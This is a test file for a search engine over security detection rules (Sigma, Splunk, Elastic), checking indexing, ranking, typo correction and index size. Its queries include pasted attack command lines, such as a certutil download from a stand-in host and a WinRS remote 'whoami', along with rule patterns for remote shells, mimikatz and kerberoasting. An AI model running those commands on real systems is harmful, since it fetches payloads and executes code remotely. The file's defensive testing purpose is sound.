import { existsSync, mkdtempSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { gzipSync } from "node:zlib"

import { Index } from "flexsearch"
import { describe, expect, it } from "vitest"

import { loadCatalog } from "../catalog/load.node.ts"
import { indexCatalog } from "../catalog/views.ts"
import {
  buildSearchIds,
  buildSearchIndex,
  buildSearchValues,
  type SearchData,
  type SearchIds,
  type SearchValues,
} from "./build-index.ts"
import { addIds, addValues, loadSearchIndex, queryNeedsIds, queryNeedsValues } from "./load-index.ts"
import { packRecords, searchRecords, unpackRecords } from "./records.ts"
import { indicatorsFirst } from "./query.ts"
import { runSearch } from "./run.ts"
import {
  buildSome,
  exportTermIndex,
  oneEditNeighbours,
  termIndexBuilt,
  words,
  type SavedTermIndex,
} from "./term-index.ts"

const TREE = "lib/catalog/__fixtures__/tree"
const catalog = indexCatalog(loadCatalog({ roots: [TREE] }))
// Through JSON, as the browser receives it.
const data = JSON.parse(JSON.stringify(await buildSearchIndex(catalog))) as SearchData
const ids = JSON.parse(JSON.stringify(buildSearchIds(catalog))) as SearchIds
const search = loadSearchIndex(data, ids)

/** A compact, readable form of the hits: name, then each reason and its marked snippet. */
function hits(query: string, facets = {}) {
  return runSearch(search, query, facets).hits.map((h) => {
    const why = h.reasons.map((r) => {
      let text = r.snippet.text
      for (const [s, e] of [...r.snippet.marks].reverse())
        text = `${text.slice(0, s)}[${text.slice(s, e)}]${text.slice(e)}`
      return `${r.label}: ${text}`
    })
    return `${h.name} | ${why.join(" | ")}`
  })
}

describe("payload round trip", () => {
  it("unpacks to exactly the records packed, through JSON", () => {
    const records = searchRecords(catalog.catalog.detections, catalog.indicators)
    expect(unpackRecords(JSON.parse(JSON.stringify(packRecords(records))))).toEqual(records)
  })
  it("keeps every loaded rule and indicator", () => {
    expect(search.data.rules.map((r) => r.name).sort()).toEqual(catalog.catalog.detections.map((d) => d.name).sort())
    expect(search.data.indicators.length).toBe(catalog.indicators.raw.entries.length)
  })
  it("ships UUID ids apart and searches them only once added", () => {
    expect(data.idsApart).toBe(true)
    expect(data.rules.id).toEqual([])
    const id = catalog.catalog.detections[0]?.id ?? ""
    const bare = loadSearchIndex(data)
    expect(bare.hasIds).toBe(false)
    expect(queryNeedsIds(id)).toBe(true)
    expect(queryNeedsIds(`id:${id.slice(0, 4)}`)).toBe(true)
    expect(queryNeedsIds("powershell wmic.exe")).toBe(false)
    expect(runSearch(bare, id).total).toBe(0)
    addIds(bare, ids)
    expect(runSearch(bare, id).hits.map((h) => [h.name, h.reasons.map((r) => r.label).join()])).toEqual([
      [catalog.catalog.detections[0]?.name, "id"],
    ])
    expect(runSearch(bare, id.slice(0, 8)).hits.map((h) => h.name)).toEqual([catalog.catalog.detections[0]?.name])
    // Ids match from their start only: a fragment inside one is not a question about ids.
    expect(runSearch(bare, id.slice(9, 13)).hits.every((h) => h.reasons.every((r) => r.label !== "id"))).toBe(true)
    expect(() => addIds(bare, { ...ids, ids: ids.ids.slice(1) })).toThrow(/rebuild the site/)
  })
})

describe("hash values shipped apart", async () => {
  const sha = "4c3b9d1e2f30415263748596a7b8c9d0e1f20314253647586970a1b2c3d4e5f6"
  const dir = mkdtempSync(join(tmpdir(), "atlas-hashes-"))
  writeFileSync(
    join(dir, "driver_load_win_fixture_bad_driver.yml"),
    [
      "title: Fixture Known Bad Driver Load",
      "id: 3f1c2a4e-5b6d-4e7f-8a9b-0c1d2e3f4a5b",
      "status: test",
      "description: Fixture rule listing the digests of drivers it knows as bad.",
      "logsource:",
      "  category: driver_load",
      "  product: windows",
      "detection:",
      "  selection:",
      "    Hashes|contains:",
      `      - 'SHA256=${sha.toUpperCase()}'`,
      "      - 'IMPHASH=0123456789ABCDEF0123456789ABCDEF'",
      "  driver:",
      "    ImageLoaded|endswith: '\\badfixture.sys'",
      "  condition: selection or driver",
      "level: high",
      "",
    ].join("\n"),
  )
  // No id: the loader names it `sigma-<slug>`, not a UUID, so it stays in the index.
  writeFileSync(
    join(dir, "proc_creation_win_fixture_no_id.yml"),
    [
      "title: Fixture Rule Without An Id",
      "status: test",
      "logsource:",
      "  category: process_creation",
      "  product: windows",
      "detection:",
      "  selection:",
      "    Image|endswith: '\\fixturetool.exe'",
      "  condition: selection",
      "",
    ].join("\n"),
  )
  const cat = indexCatalog(loadCatalog({ roots: [dir] }))
  const payload = JSON.parse(JSON.stringify(await buildSearchIndex(cat))) as SearchData
  const values = JSON.parse(JSON.stringify(buildSearchValues(cat))) as SearchValues
  it("leaves hashes out of the index, and says what needs them", () => {
    expect(JSON.stringify(payload)).not.toContain(sha.toUpperCase())
    expect(values.values).toHaveLength(2)
    const s = loadSearchIndex(payload)
    expect(runSearch(s, "badfixture.sys").total).toBe(1)
    expect(runSearch(s, sha.slice(0, 12)).total).toBe(0)
    for (const q of [sha.slice(0, 12), "sha256", "field:hashes", `indicator:=${sha.slice(0, 6)}`])
      expect([q, queryNeedsValues(s, q)]).toEqual([q, true])
    for (const q of ["badfixture.sys", "field:ImageLoaded", "driver load", "indicator:.sys"])
      expect([q, queryNeedsValues(s, q)]).toEqual([q, false])
  })
  it("keeps ids that are not UUIDs inline, searchable before the others are fetched", () => {
    expect(payload.idsApart).toBe(true)
    expect([...payload.rules.id].sort()).toEqual(["", "sigma-proc-creation-win-fixture-no-id"])
    const s = loadSearchIndex(payload)
    expect(runSearch(s, "sigma-proc-creation").hits.map((h) => h.name)).toEqual(["Fixture Rule Without An Id"])
    expect(queryNeedsIds("3f1c2a4e-5b6d")).toBe(true)
  })
  it("finds them once added, as an index holding them would", async () => {
    const s = loadSearchIndex(payload)
    addValues(s, values)
    expect(queryNeedsValues(s, "sha256")).toBe(false)
    const hit = runSearch(s, sha.slice(0, 12)).hits[0]
    expect(hit?.name).toBe("Fixture Known Bad Driver Load")
    expect(hit?.reasons[0]?.snippet.text).toContain(`SHA256=${sha.toUpperCase()}`)
    expect(runSearch(s, "field:hashes").hits[0]?.reasons[0]?.snippet.text).toContain("IMPHASH=0123456789")
    expect(runSearch(s, `SHA256=${sha}`).indicators.map((i) => i.field)).toEqual(["Hashes"])
    // The values added later are not saved with the term index: a later visit adds them again.
    const saved = await exportTermIndex(s.terms)
    expect(saved).toHaveLength(s.terms.sources.length - 1)
    expect(() => addValues(loadSearchIndex(payload), { ...values, values: [] })).toThrow(/rebuild the site/)
  })
})

describe("runSearch on the fixture catalog", () => {
  it("ranks a name match first and says why", () => {
    expect(hits("winrs")).toMatchInlineSnapshot(`
      [
        "Fixture WinRS Remote Shell | name: Fixture [WinRS] Remote Shell",
      ]
    `)
  })
  it("matches indicators with punctuation literally", () => {
    expect(hits("-r:")).toMatchInlineSnapshot(`
      [
        "Fixture WinRS Remote Shell | indicator: process contains [-r:]",
      ]
    `)
    expect(hits("indicator:wmic.exe")).toMatchInlineSnapshot(`
      [
        "Fixture WMIC Remote Launch | indicator: process_name eq [wmic.exe] · original_file_name eq [wmic.exe]",
      ]
    `)
  })
  it("applies field syntax: technique (with sub-techniques), field, tactic, type, source", () => {
    expect(runSearch(search, "technique:T1021").hits.map((h) => h.name)).toEqual(["Fixture WinRS Remote Shell"])
    expect(runSearch(search, "technique:T102").hits).toEqual([])
    expect(runSearch(search, "field:original_file_name").hits.map((h) => h.name)).toEqual([
      "Fixture WMIC Remote Launch",
    ])
    // Unquoted, `Movement` is a free-text term, best matched in the tactic too; quoted, it is part of the filter.
    expect(
      runSearch(search, "tactic:Lateral Movement").hits.map((h) => [h.name, h.reasons.map((r) => r.label)]),
    ).toEqual([["Fixture WinRS Remote Shell", ["tactic"]]])
    expect(runSearch(search, 'tactic:"Lateral Movement"').hits.map((h) => h.name)).toEqual([
      "Fixture WinRS Remote Shell",
    ])
    expect(
      runSearch(search, "type:ttp")
        .hits.map((h) => h.name)
        .sort(),
    ).toEqual(["Fixture Console Login Without MFA", "Fixture WMIC Remote Launch"])
    expect(
      runSearch(search, "source:sysmon remote")
        .hits.map((h) => h.name)
        .sort(),
    ).toEqual(["Fixture WMIC Remote Launch", "Fixture WinRS Remote Shell"])
  })
  it("matches a single character against name prefixes only", () => {
    const one = runSearch(search, "w")
    expect(one.hits.map((h) => h.name).sort()).toEqual([
      "Fixture Console Login Without MFA",
      "Fixture WMIC Remote Launch",
      "Fixture WinRS Remote Shell",
    ])
    expect(one.hits.every((h) => h.reasons.map((r) => r.label).join() === "name")).toBe(true)
  })
  it("returns the head of the full order for any page size, ties by name", () => {
    const full = runSearch(search, "", {}, 100).hits.map((h) => h.name)
    expect(full).toEqual([...full].sort((a, b) => (a.toLowerCase() < b.toLowerCase() ? -1 : 1)))
    for (const limit of [0, 1, 2])
      expect(runSearch(search, "", {}, limit).hits.map((h) => h.name)).toEqual(full.slice(0, limit))
  })
  it("matches terms from the start of a word, case and accents folded", () => {
    expect(runSearch(search, "remo").total).toBeGreaterThan(0)
    expect(runSearch(search, "emote").total).toBe(0)
    expect(runSearch(search, "RÉMOTE").hits.map((h) => h.name)).toEqual(
      runSearch(search, "remote").hits.map((h) => h.name),
    )
  })
  it("requires every term", () => {
    expect(runSearch(search, "wmic winrs").total).toBe(0)
    expect(runSearch(search, "remote wmic").hits.map((h) => h.name)).toEqual(["Fixture WMIC Remote Launch"])
  })
  it("counts facets disjunctively and narrows by them", () => {
    const all = runSearch(search, "")
    expect(all.total).toBe(search.data.rules.length)
    const typed = runSearch(search, "", { type: ["TTP"] })
    expect(typed.total).toBe(2)
    // The selected facet still counts the other values, so the user can widen the choice.
    expect(typed.facets.type.map((f) => `${f.value}:${f.count}:${f.selected}`)).toEqual(
      all.facets.type.map((f) => `${f.value}:${f.count}:${f.value === "TTP"}`),
    )
    const both = runSearch(search, "", { type: ["TTP"], tactic: ["execution"] })
    expect(both.hits.map((h) => h.name)).toEqual(["Fixture WMIC Remote Launch"])
    expect(runSearch(search, "", { type: ["Nope"] }).facets.type.find((f) => f.value === "Nope")).toEqual({
      value: "Nope",
      count: 0,
      selected: true,
    })
  })
  it("offers the indicator page for an exact indicator value only", () => {
    expect(runSearch(search, "WMIC.exe").indicators).toEqual([
      { field: "original_file_name", kind: "eq", value: "wmic.exe", rules: 1 },
      { field: "process_name", kind: "eq", value: "wmic.exe", rules: 1 },
    ])
    expect(runSearch(search, "indicator:winrs.exe").indicators).toEqual([
      { field: "process_name", kind: "eq", value: "winrs.exe", rules: 1 },
    ])
    expect(runSearch(search, "wmic").indicators).toEqual([])
    expect(runSearch(search, "type:ttp wmic.exe").indicators).toEqual([])
  })
  it("rejects a payload of another version", () => {
    expect(() => loadSearchIndex({ ...data, version: 0 })).toThrow(/rebuild the site/)
  })
})

describe("term index (FlexSearch)", () => {
  it("keeps digit runs whole: T1059.001 is t1059 and 001, and T1047 never matches T1104", () => {
    expect(words("T1059.001 Command")).toEqual(["t1059", "001", "command"])
    const byId = runSearch(search, "T1047").hits
    expect(byId.length).toBeGreaterThan(0)
    expect(byId.every((h) => h.techniques.some((t) => t.startsWith("T1047")))).toBe(true)
  })
  it("imports what it exported and answers as the index it was built as", async () => {
    const saved = await exportTermIndex(search.terms)
    const again = loadSearchIndex(data, ids, JSON.parse(JSON.stringify(saved)) as SavedTermIndex)
    for (const q of ["winrs", "wmic.exe", "remote", "T1021", "-enc", "process_name"])
      expect(runSearch(again, q)).toEqual(runSearch(search, q))
    expect(again.terms.sources.map((src) => src.dictionary)).toEqual(search.terms.sources.map((src) => src.dictionary))
  })
  it("is the index FlexSearch's own add makes, word for word", () => {
    for (const src of search.terms.sources) {
      const byAdd = new Index({ tokenize: "strict", resolution: 1, encode: words, cache: false })
      src.texts.forEach((text, e) => text && byAdd.add(e, text))
      const internals = (i: Index | undefined) => i as unknown as { map: Map<string, number[][]> }
      expect([...internals(src.index).map].sort()).toEqual([...internals(byAdd).map].sort())
    }
  })
  it("answers the same before its term index is built, and half-way through building it", () => {
    const queries = ["winrs", "wmic.exe", "remote", "rem", "T1021", "-enc", "process_name", "w", "c:\\windows", "winsr"]
    const lazy = () => loadSearchIndex(data, ids, undefined, true)
    for (const q of queries) {
      const before = lazy()
      expect(termIndexBuilt(before.terms)).toBe(false)
      expect(runSearch(before, q), q).toEqual(runSearch(search, q))
      const half = lazy()
      let slices = 0
      expect(buildSome(half.terms, () => ++slices > 3)).toBe(false)
      expect(runSearch(half, q), q).toEqual(runSearch(search, q))
      expect(buildSome(half.terms, () => false)).toBe(true)
      expect(runSearch(half, q), q).toEqual(runSearch(search, q))
    }
  })
  it("finds one-edit neighbours, and starts of longer words", () => {
    expect(oneEditNeighbours(search.terms, "remoet")).toContain("remote")
    expect(oneEditNeighbours(search.terms, "rmote")).toContain("remote")
    expect(oneEditNeighbours(search.terms, "rxmxte")).toEqual([])
  })
})

describe("typos, pasted command lines, rules before indicators", () => {
  it("corrects a word that matches nothing and says so", () => {
    const r = runSearch(search, "winsr")
    expect(r.corrected).toBe("winrs")
    expect(r.hits.map((h) => h.name)).toContain("Fixture WinRS Remote Shell")
    expect(runSearch(search, "winrs").corrected).toBeUndefined()
    expect(runSearch(search, "zzzzzzzz").total).toBe(0)
  })
  it("ranks rules by how many terms of a long query they hit, not requiring all", () => {
    const line = "winrs.exe -r: whoami /all"
    const r = runSearch(search, line)
    expect(r.command).toBe(true)
    expect(r.hits[0]?.name).toBe("Fixture WinRS Remote Shell")
    expect(runSearch(search, "winrs.exe whoami").total).toBeLessThanOrEqual(r.total)
  })
  it("puts indicator entries first only for an indicator filter or a punctuated value", () => {
    expect(indicatorsFirst("wmic")).toBe(false)
    expect(indicatorsFirst("wmic.exe")).toBe(true)
    expect(indicatorsFirst("indicator:wmic")).toBe(true)
    expect(indicatorsFirst("wmic remote")).toBe(false)
  })
})

describe("Sigma rules of the default content/", async () => {
  const content = indexCatalog(loadCatalog({ roots: ["content"] }))
  const s = loadSearchIndex(
    JSON.parse(JSON.stringify(await buildSearchIndex(content))) as SearchData,
    buildSearchIds(content),
  )
  const sigma = content.catalog.detections.filter((d) => d.format === "sigma")
  it("finds them by format, by name and by a CommandLine value", () => {
    expect(sigma.length).toBeGreaterThan(0)
    expect(
      runSearch(s, "format:sigma", {}, 100)
        .hits.map((h) => h.name)
        .sort(),
    ).toEqual(sigma.map((d) => d.name).sort())
    expect(runSearch(s, "wmic starts").hits.map((h) => h.name)).toEqual(["WMIC Starts a Process on Another Host"])
    const node = runSearch(s, "indicator:/node:").hits.find((h) => h.format === "sigma")
    expect(node?.name).toBe("WMIC Starts a Process on Another Host")
    expect(node?.reasons.map((r) => [r.label, r.snippet.text.split(" · ")[0]])).toEqual([
      ["indicator", "CommandLine contains  /node:"],
    ])
    expect(runSearch(s, "format:sigma technique:T1047").hits.map((h) => h.name)).toEqual([
      "WMIC Starts a Process on Another Host",
    ])
    const wmi = sigma.find((d) => d.name === "WMIC Starts a Process on Another Host")
    expect(runSearch(s, wmi?.id ?? "").hits.map((h) => [h.name, h.reasons.map((r) => r.label).join()])).toEqual([
      [wmi?.name, "id"],
    ])
  })
})

const CORPORA = ["../shared/corpora/security_content", "../shared/corpora/sigma"]
const present = CORPORA.every((c) => existsSync(c))
if (!present) console.warn(`skipping the search corpus test: ${CORPORA.join(" or ")} is absent`)

describe.skipIf(!present)("search over both corpora (security_content and sigma)", () => {
  it("stays within 1 MiB gzipped; finds winrs first, the WMI rules by indicator, Sigma rules by format and CommandLine value", async () => {
    const both = indexCatalog(loadCatalog({ roots: CORPORA }))
    const corpus = await buildSearchIndex(both)
    const gz = gzipSync(JSON.stringify(corpus)).length
    expect(gz).toBeLessThanOrEqual(1024 * 1024)
    const s = loadSearchIndex(JSON.parse(JSON.stringify(corpus)) as SearchData, buildSearchIds(both))
    // Names starting with the word rank before names ending with it (Sigma's "Winrs Local Command Execution").
    const winrs = runSearch(s, "winrs", {}, 5).hits
    expect(winrs.slice(0, 2).every((h) => h.reasons[0]?.label === "name")).toBe(true)
    expect(winrs.slice(0, 2).map((h) => h.name)).toContain("Remote Process Instantiation via WinRM and Winrs")
    const wmi = runSearch(s, "indicator:wmic.exe", {}, 100).hits.map((h) => h.name)
    expect(wmi).toContain("Remote Process Instantiation via WMI")
    expect(wmi.length).toBeGreaterThanOrEqual(20)
    expect(runSearch(s, "winrs.exe").indicators.map((i) => i.field)).toContain("process_name")
    const sigma = both.catalog.detections.filter((d) => d.format === "sigma")
    expect(runSearch(s, "format:sigma").total).toBe(sigma.length)
    const encoded = runSearch(s, "format:sigma indicator:-encodedcommand", {}, 500).hits
    expect(encoded.length).toBeGreaterThan(5)
    expect(encoded.every((h) => h.format === "sigma" && h.reasons.some((r) => r.label === "indicator"))).toBe(true)
    expect(
      encoded.filter((h) => h.reasons.some((r) => r.snippet.text.startsWith("CommandLine "))).length,
    ).toBeGreaterThan(5)
    const named = sigma[sigma.length - 1]
    expect(runSearch(s, `"${named?.name}"`, {}, 5).hits.map((h) => h.name)).toContain(named?.name)
    // Only the page shown is sorted: it must be the head of the full order.
    const full = runSearch(s, "windows", {}, 100000).hits.map((h) => h.rule)
    expect(runSearch(s, "windows", {}, 20).hits.map((h) => h.rule)).toEqual(full.slice(0, 20))
    expect(runSearch(s, "source:sysmon", {}, 7).hits.map((h) => h.rule)).toEqual(
      runSearch(s, "source:sysmon", {}, 100000)
        .hits.slice(0, 7)
        .map((h) => h.rule),
    )
    // Typos: the intended rules in the top 5, and the correction said.
    const top = (q: string) => runSearch(s, q, {}, 5)
    expect(top("mimikats").corrected).toBe("mimikatz")
    expect(top("mimikats").hits.every((h) => /mimikatz/i.test(h.name))).toBe(true)
    expect(top("kerberost").corrected).toBe("kerberoast")
    expect(top("kerberost").hits.some((h) => /kerberoast/i.test(h.name))).toBe(true)
    expect(top("powershel").hits.every((h) => /powershell/i.test(h.name))).toBe(true)
    // A pasted command line: five rules or more, both formats, the Sigma certutil download rule among them.
    const line = runSearch(s, "certutil -urlcache -split -f http://x.example/a.exe a.exe", {}, 50)
    expect(line.command).toBe(true)
    expect(line.total).toBeGreaterThanOrEqual(5)
    expect(new Set(line.hits.map((h) => h.format))).toEqual(new Set(["splunk", "sigma"]))
    expect(line.hits.slice(0, 10).map((h) => h.name)).toContain("Suspicious Download Via Certutil.EXE")
  })
})

const THREE = [...CORPORA, "../shared/corpora/elastic"]
const threePresent = THREE.every((c) => existsSync(c))
if (!threePresent) console.warn(`skipping the three-corpus search size test: one of ${THREE.join(", ")} is absent`)

describe.skipIf(!threePresent)("search over three corpora (security_content, sigma, elastic)", () => {
  it("stays within 1.3 MB gzipped and finds Elastic rules by name, indicator and format", async () => {
    const all = indexCatalog(loadCatalog({ roots: THREE }))
    const corpus = await buildSearchIndex(all)
    const gz = gzipSync(JSON.stringify(corpus)).length
    expect(gz).toBeLessThanOrEqual(1_300_000)
    const s = loadSearchIndex(JSON.parse(JSON.stringify(corpus)) as SearchData, buildSearchIds(all))
    const elastic = all.catalog.detections.filter((d) => d.format === "elastic")
    expect(runSearch(s, "format:elastic").total).toBe(elastic.length)
    const wmi = runSearch(s, "Suspicious Cmd Execution via WMI", {}, 5).hits.map((h) => h.name)
    expect(wmi).toContain("Suspicious Cmd Execution via WMI")
    expect(runSearch(s, "format:elastic indicator:wmiprvse.exe").total).toBeGreaterThan(0)
  })
})
